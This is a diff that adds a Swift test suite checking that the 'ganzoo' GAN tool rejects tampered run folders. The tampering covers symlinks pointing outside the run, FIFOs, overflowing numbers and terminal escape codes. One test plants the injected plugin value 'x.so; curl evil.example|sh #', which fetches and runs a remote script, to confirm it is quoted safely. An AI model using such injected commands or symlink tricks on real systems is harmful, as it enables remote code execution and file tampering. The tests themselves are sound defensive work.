@@ -1,0 +1,192 @@
+import Foundation
+import GANMetrics
+import GANModule
+import GANTestSupport
+import Testing
+
+@testable import GANZooCLI
+
+/// Runs that come from a stranger, opened by every command that takes one.
+@Suite struct HostileRunTests {
+    private static let recipes = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
+        .deletingLastPathComponent().deletingLastPathComponent().appending(path: "recipes").path
+
+    private static let shared = FileManager.default.temporaryDirectory.appending(
+        path: "ganzoo-hostile-\(UUID().uuidString)")
+
+    /// A run of one step, made once. Its folder goes with the process.
+    private static let trained = Result {
+        atexit { try? FileManager.default.removeItem(at: HostileRunTests.shared) }
+        try FileManager.default.createDirectory(at: shared, withIntermediateDirectories: true)
+        let run = shared.appending(path: "run").path
+        let program = try Program.run(
+            "train", "\(recipes)/debug/tiny.yaml", "train.kimg=0.008", "data.per_class=12", "data.long_tail=null",
+            "--run",
+            run)
+        try #require(program.status == 0, "\(program.errors)")
+        return run
+    }
+
+    private let place: Workplace
+    private let run: String
+
+    init() throws {
+        place = try Workplace()
+        run = place.path("run")
+        try FileManager.default.copyItem(atPath: Self.trained.get(), toPath: run)
+        try FileManager.default.createDirectory(atPath: place.path("mine"), withIntermediateDirectories: false)
+        var writer = SafetensorsWriter()
+        SmallClassifier.fashion(seed: 3).addState(to: &writer)
+        try writer.write(to: place.path("fmnist.safetensors"))
+    }
+
+    private func ganzoo(_ arguments: String...) throws -> Program { try ganzoo(arguments) }
+
+    private func ganzoo(_ arguments: [String]) throws -> Program {
+        try Program.run(
+            Program.products.appending(path: "ganzoo").path, arguments,
+            environment: ["GANZOO_FEATURES": place.folder.path, "GANZOO_CACHE": place.path("cache")])
+    }
+
+    private func changeState(_ change: (String) -> String) throws {
+        try StateFile.change("\(run)/checkpoints/000001/state.json", change)
+    }
+
+    private func link(_ name: String, to target: String) throws {
+        try? FileManager.default.removeItem(atPath: "\(run)/\(name)")
+        try FileManager.default.createSymbolicLink(atPath: "\(run)/\(name)", withDestinationPath: target)
+    }
+
+    // MARK: Links
+
+    /// Every command that opens a run, with what it needs.
+    @Test(arguments: [
+        ["generate", "sheet", "--run", "RUN"], ["generate", "images", "--run", "RUN", "--per-class", "1"],
+        ["nearest", "--run", "RUN"], ["evaluate", "--run", "RUN", "--samples", "8"], ["export", "--run", "RUN"],
+        ["compare", "RUN", "RUN"],
+        ["train", "TINY", "transfer.from=RUN", "train.kimg=0.008", "--run", "NEW"],
+    ]) func noCommandFollowsALink(_ words: [String]) throws {
+        let arguments = words.map {
+            $0.replacing("RUN", with: run).replacing("TINY", with: "\(Self.recipes)/debug/tiny.yaml")
+                .replacing("NEW", with: place.path("new"))
+        }
+        try link("evaluation", to: "../mine")
+        let program = try ganzoo(arguments)
+        #expect(program.status != 0)
+        #expect(
+            program.errors.contains(
+                "\(run)/evaluation: it is a symbolic link, and no link is followed below a run's folder: it could lead to any"
+                    + " file\n  fix: put what it leads to in its place, or name another run with --run; the whole folder of a"
+                    + " run may be a link"), "\(program.errors)")
+        #expect(try FileManager.default.contentsOfDirectory(atPath: place.path("mine")).isEmpty)
+    }
+
+    @Test func picturesDoNotLeaveTheRun() throws {
+        try link("generated", to: "../mine")
+        let program = try ganzoo("generate", "sheet", "--run", run)
+        #expect(program.status == 1)
+        #expect(program.errors.hasPrefix("ganzoo: \(run)/generated: it is a symbolic link, "))
+        #expect(try FileManager.default.contentsOfDirectory(atPath: place.path("mine")).isEmpty)
+    }
+
+    /// Names of reports are known before they are written.
+    @Test func aReportReplacesALinkInItsPlace() throws {
+        try FileManager.default.createDirectory(atPath: "\(run)/evaluation", withIntermediateDirectories: false)
+        try place.write("mine/thesis.txt", "mine")
+        try link("evaluation/000001-fmnist.json", to: "../../mine/thesis.txt")
+        let program = try ganzoo("evaluate", "--run", run, "--metrics", "fid", "--samples", "24")
+        #expect(program.status == 0, "\(program.errors)")
+        #expect(try String(contentsOfFile: place.path("mine/thesis.txt"), encoding: .utf8) == "mine")
+        #expect(try EvaluationFile.read("\(run)/evaluation/000001-fmnist.json").measuredBy.samples.count == 24)
+    }
+
+    @Test func aRunBehindALinkIsOpened() throws {
+        try FileManager.default.createSymbolicLink(atPath: place.path("link"), withDestinationPath: "run")
+        let program = try ganzoo("generate", "sheet", "--run", place.path("link"), "--seeds", "0", "--classes", "0")
+        #expect(program.status == 0, "\(program.errors)")
+        #expect(FileManager.default.fileExists(atPath: "\(run)/generated/sheet.png"))
+    }
+
+    /// It would be waited for.
+    @Test func aRecipeThatIsAFIFOIsRefused() throws {
+        try FileManager.default.removeItem(atPath: "\(run)/resolved.yaml")
+        #expect(mkfifo("\(run)/resolved.yaml", 0o600) == 0)
+        for command in ["generate", "evaluate", "nearest", "export"] {
+            let program = try ganzoo(command, "--run", run)
+            #expect(program.status == 1)
+            #expect(
+                program.errors.hasPrefix(
+                    "ganzoo: \(run)/resolved.yaml: it is a FIFO, where a regular file was expected"))
+        }
+    }
+
+    // MARK: Numbers
+
+    @Test(arguments: ["9223372036854775807", "-5"]) func aStepThatNoRunReachesIsRefused(_ step: String) throws {
+        try changeState { $0.replacing("\"step\":1", with: "\"step\":\(step)") }
+        let program = try ganzoo("generate", "sheet", "--run", run)
+        #expect(program.status == 1)
+        #expect(
+            program.errors == """
+                ganzoo: \(run)/checkpoints: there is no whole checkpoint yet
+                  \(run)/checkpoints/000001 is passed over: state.json is not what a run writes: `position.step` is \(step), \
+                which is not in 0 ... 9007199254740992
+
+                """)
+    }
+
+    @Test(arguments: [
+        (
+            "\"class_counts\" : [\n      12,", "\"class_counts\" : [\n      9223372036854775807,",
+            "data.class_counts`: their sum"
+        ),
+        (
+            "\"count\" : 120", "\"count\" : 9223372036854775807",
+            "data.count`: 9223372036854775807 is not in 0 ... 9007199254740992"
+        ),
+    ]) func countsThatOverflowAreRefused(_ old: String, _ new: String, _ problem: String) throws {
+        let text = try String(contentsOfFile: "\(run)/run.json", encoding: .utf8)
+        try #require(text.contains(old))
+        try text.replacing(old, with: new).write(toFile: "\(run)/run.json", atomically: true, encoding: .utf8)
+        let program = try ganzoo("generate", "sheet", "--run", run)
+        #expect(program.status == 1)
+        #expect(program.errors.hasPrefix("ganzoo: \(run)/run.json: `\(problem)"), "\(program.errors)")
+    }
+
+    @Test(arguments: [
+        (
+            "\"trainingImages\" : 12", "\"trainingImages\" : -9223372036854775808",
+            "`intra_class.classes` is -9223372036854775808"
+        ),
+        ("\"step\" : 1", "\"step\" : -1", "`protocol.samples.step` is -1, which is not in 0 ... 9007199254740992"),
+        ("\"fd_fmnist\" :", "\"\\u001b[2J\" :", "`\u{FFFD}[2J` is no name of a score"),
+    ]) func aReportThatNoEvaluationWritesIsRefused(_ old: String, _ new: String, _ problem: String) throws {
+        let path = place.path("a.json")
+        let scored = try ganzoo(
+            "evaluate", "--run", run, "--metrics", "fid", "intra_fid", "--samples", "24", "--samples-per-class", "3",
+            "--out", path)
+        try #require(scored.status == 0, "\(scored.errors)")
+        let text = try String(contentsOfFile: path, encoding: .utf8)
+        try #require(text.contains(old))
+        try place.write("b.json", text.replacing(old, with: new))
+        let compared = try ganzoo("compare", path, place.path("b.json"))
+        #expect(compared.status == 1)
+        #expect(
+            compared.errors.hasPrefix("ganzoo: \(place.path("b.json")) is no report of `ganzoo evaluate`: \(problem)"),
+            "\(compared.errors)")
+    }
+
+    /// Words of a stranger that are offered to be pasted into a shell.
+    @Test func pluginsAreNamedAsAShellReadsThem() throws {
+        let text = try String(contentsOfFile: "\(run)/run.json", encoding: .utf8)
+        try text.replacing(/"plugins" : \[[^\]]*\]/, with: "\"plugins\" : [\"x.so; curl evil.example|sh #\"]").write(
+            toFile: "\(run)/run.json", atomically: true, encoding: .utf8)
+        let recipe = try String(contentsOfFile: "\(run)/resolved.yaml", encoding: .utf8)
+        try recipe.replacing("noisy_embedding", with: "theirs").write(
+            toFile: "\(run)/resolved.yaml", atomically: true, encoding: .utf8)
+        let program = try ganzoo("generate", "sheet", "--run", run)
+        #expect(
+            program.errors.hasSuffix("the run was trained with --plugin 'x.so; curl evil.example|sh #'\n"),
+            "\(program.errors)")
+    }
+}
